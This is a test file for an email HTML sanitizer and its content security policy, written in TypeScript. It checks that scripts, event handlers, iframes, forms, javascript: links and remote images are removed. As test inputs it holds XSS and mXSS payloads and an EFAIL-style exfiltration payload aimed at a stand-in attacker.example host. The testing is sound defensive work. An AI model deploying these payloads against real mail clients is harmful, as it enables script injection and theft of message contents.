import { describe, expect, it } from 'vitest';
import { cssWithoutRemote, urlKind } from './mail-css.ts';
import { mailCsp, mailDocument, mailViewHeaders, sanitizeMailHtml } from './mail-html.ts';

const blocked = (html: string) => sanitizeMailHtml(html, false);
const allowed = (html: string) => sanitizeMailHtml(html, true);

/** The CSP as directive → sources. */
function directives(csp: string): Map<string, string> {
  return new Map(
    csp.split(';').map((d) => {
      const [name = '', ...rest] = d.trim().split(/\s+/);
      return [name, rest.join(' ')] as const;
    }),
  );
}

describe('sanitizeMailHtml', () => {
  it('removes scripts, their text, and every on* handler', () => {
    const r = blocked(`<p onclick="steal()">Hi<script>alert(1)</script></p><img src="data:image/png;base64,AA" onerror="x()"><div onmouseover=y>z</div>`);
    expect(r.html).not.toMatch(/script|alert|onclick|onerror|onmouseover|steal/i);
    expect(r.html).toContain('<p>Hi</p>');
    expect(r.html).toContain('<div>z</div>');
  });

  it.each([
    ['<iframe src="https://evil.example/"></iframe>', /iframe/],
    ['<object data="x.swf"></object><embed src="x.swf">', /object|embed/],
    ['<form action="https://evil.example/"><input name=a><button>Go</button></form>', /form|input|button/],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', /meta|refresh/],
    ['<base href="https://evil.example/">', /base/],
    ['<link rel="stylesheet" href="https://evil.example/a.css">', /link|stylesheet/],
    ['<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>', /svg|script|javascript/],
    // The mXSS classic: whatever lands in the <style> stays CSS text, never an element.
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /<img|<math|<mglyph/],
    ['<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>', /video|poster/],
  ])('drops %s', (input, forbidden) => {
    expect(blocked(input).html).not.toMatch(forbidden);
  });

  it('drops javascript: and data: links, keeps http(s) and mailto, and opens every external link outside without a referrer', () => {
    const r = blocked(
      `<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href="data:text/html,<b>x</b>">c</a>` +
        `<a href="https://example.org/x" target="_self" rel="opener">d</a><a href="mailto:ada@example.org">e</a><a href="#top">f</a><a href="relative.html">g</a>`,
    );
    expect(r.html).not.toMatch(/javascript|data:|_self|rel="opener"|relative/i);
    expect(r.html).toContain('<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">d</a>');
    expect(r.html).toContain('<a href="mailto:ada@example.org" target="_blank" rel="noopener noreferrer">e</a>');
    // A fragment stays in the view.
    expect(r.html).toContain('<a href="#top">f</a>');
    expect(r.html).toContain('<a>g</a>');
  });

  it('keeps tables, inline styles, <style> and layout attributes', () => {
    const r = blocked(
      `<style>.x { color: red; }</style><table width="600" cellpadding="4" bgcolor="#eee"><tr><td style="color: blue; padding: 4px" align="center">Cell</td></tr></table><font color="green" face="Arial">f</font>`,
    );
    expect(r.html).toContain('<style>.x { color: red; }</style>');
    expect(r.html).toContain('<table width="600" cellpadding="4" bgcolor="#eee">');
    expect(r.html).toMatch(/<td style="color:\s?blue;\s?padding:\s?4px;?" align="center">Cell<\/td>/);
    expect(r.html).toContain('<font color="green" face="Arial">f</font>');
  });

  it('keeps the body\'s colours on a div, and leaves out the head\'s title', () => {
    const r = blocked('<html><head><title>Newsletter</title><style>p{margin:0}</style></head><body bgcolor="#f0f0f0"><p>Hi</p></body></html>');
    expect(r.html).not.toContain('Newsletter');
    expect(r.html).toContain('<style>p{margin:0}</style>');
    expect(r.html).toContain('<div bgcolor="#f0f0f0"><p>Hi</p></div>');
  });

  it('blocks remote images, counting them, and keeps data: images', () => {
    const r = blocked(
      `<img src="http://tracker.example/p.png" alt="logo" width="10"><img src="https://cdn.example/a.jpg"><img src="data:image/gif;base64,R0lGOD">`,
    );
    expect(r.remoteCount).toBe(2);
    expect(r.blocked).toBe(2);
    expect(r.html).not.toMatch(/tracker|cdn\.example/);
    expect(r.html).toContain('<img alt="logo" width="10" data-sb-blocked="remote" />');
    expect(r.html).toContain('<img src="data:image/gif;base64,R0lGOD" />');
  });

  it('keeps remote images when allowed, still counting them', () => {
    const r = allowed(`<img src="https://cdn.example/a.jpg"><table background="https://cdn.example/bg.png"><tr><td>x</td></tr></table>`);
    expect(r.remoteCount).toBe(2);
    expect(r.blocked).toBe(0);
    expect(r.html).toContain('<img src="https://cdn.example/a.jpg" />');
    expect(r.html).toContain('background="https://cdn.example/bg.png"');
  });

  it('shows cid: images as blocked (not resolved from the message yet), and drops relative and other sources', () => {
    const r = allowed(`<img src="cid:logo@x"><img src="images/a.png"><img src="//cdn.example/a.png"><img src="file:///etc/passwd"><img src="ftp://x/y.png">`);
    expect(r.html).toContain('<img data-sb-blocked="inline" />');
    expect(r.html).not.toMatch(/images\/a|cdn|file:|ftp:/);
    expect(r.remoteCount).toBe(0);
  });

  it('blocks remote backgrounds in attributes, style="" and <style>, including escaped and image-set spellings', () => {
    const r = blocked(
      `<td background="http://t.example/bg.png">a</td>` +
        `<div style="background: url('https://t.example/1.png') no-repeat">b</div>` +
        `<style>@import url(https://t.example/x.css); .a { background-image: url(http://t.example/2.png) } .b { background: \\75 rl(https://t.example/3.png) } ` +
        `.c { background-image: image-set("https://t.example/4.png" 1x) } .d { background: url(data:image/png;base64,AA) }</style>`,
    );
    expect(r.html).not.toContain('t.example');
    expect(r.remoteCount).toBe(6);
    expect(r.blocked).toBe(6);
    expect(r.html).toContain('url(data:image/png;base64,AA)');
  });

  it('never lets markup out of a <style> element', () => {
    const r = allowed('<style>a{} </style x><img src="https://evil.example/a.png"></style><p>after</p>');
    const style = /<style>([\s\S]*?)<\/style>/.exec(r.html)?.[1] ?? '';
    expect(style).not.toContain('<');
  });

  it('keeps an EFAIL-style unclosed image source from swallowing and sending the rest of the mail', () => {
    const efail = '<p>Hello</p><img src="http://attacker.example/?secret=<p>The launch code is 1234</p><p>Bye</p>';
    for (const r of [blocked(efail), allowed(efail)]) {
      expect(r.html).not.toContain('attacker.example');
      expect(r.html).not.toMatch(/src="http/);
    }
    // Unquoted, and in a background: the same.
    expect(allowed('<table background=http://attacker.example/?x=<b>secret</b>>').html).not.toContain('attacker');
    expect(allowed('<img src=\'http://attacker.example/?x=\nsecret more text').html).not.toContain('attacker');
  });
});

describe('urlKind and cssWithoutRemote', () => {
  it('classifies image URLs', () => {
    expect(urlKind(' https://a.example/x.png ')).toBe('remote');
    expect(urlKind('HTTP://a.example/x.png')).toBe('remote');
    expect(urlKind('data:image/png;base64,AAAA')).toBe('data-image');
    expect(urlKind('data:text/html;base64,AAAA')).toBe('other');
    expect(urlKind('cid:part1@example')).toBe('inline');
    expect(urlKind('//a.example/x.png')).toBe('other');
    expect(urlKind('https://a.example/x y.png')).toBe('other');
  });

  it('leaves CSS without URLs alone', () => {
    const css = '.a { color: #123; font-family: "Helvetica Neue", Arial; }';
    expect(cssWithoutRemote(css, false)).toEqual({ css, remote: 0 });
  });
});

describe('mailCsp', () => {
  it('allows nothing but inline styles and data: images and fonts; no script, no same-origin, no form', () => {
    const d = directives(mailCsp({ allowRemote: false }));
    expect(d.get('default-src')).toBe("'none'");
    expect(d.get('style-src')).toBe("'unsafe-inline'");
    expect(d.get('img-src')).toBe('data:');
    expect(d.get('font-src')).toBe('data:');
    expect(d.get('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
    expect(d.has('script-src')).toBe(false);
    expect(d.has('frame-ancestors')).toBe(false);
    expect(mailCsp({ allowRemote: false })).not.toMatch(/allow-scripts|allow-same-origin|allow-forms|https?:/);
  });

  it('opens images (only) to the network when remote content is allowed, and names who may frame the view', () => {
    const d = directives(mailCsp({ allowRemote: true, frameAncestors: 'http://127.0.0.1:1234' }));
    expect(d.get('img-src')).toBe('data: https: http:');
    expect(d.get('default-src')).toBe("'none'");
    expect(d.get('frame-ancestors')).toBe('http://127.0.0.1:1234');
  });
});

describe('mailDocument', () => {
  it('wraps the sanitized body in a document with its policy and counts', () => {
    const doc = mailDocument('<p>Hi</p><img src="https://t.example/p.png">', { allowRemote: false });
    expect(doc.html).toMatch(/^<!doctype html><html><head><meta charset="utf-8">/);
    expect(doc.html).toContain('<body><p>Hi</p><img data-sb-blocked="remote" /></body>');
    expect(doc.remoteCount).toBe(1);
    expect(doc.blocked).toBe(1);
    expect(doc.csp).toBe(mailCsp({ allowRemote: false }));
  });

  it('says so when the stored HTML was cut', () => {
    expect(mailDocument('<p>Hi', { allowRemote: false, truncated: true }).html).toContain('kept only its first part');
  });

  it('is served with its own policy, no sniffing, no referrer, no caching', () => {
    expect(mailViewHeaders({ csp: 'x' })).toEqual({
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy': 'x',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
    });
  });
});
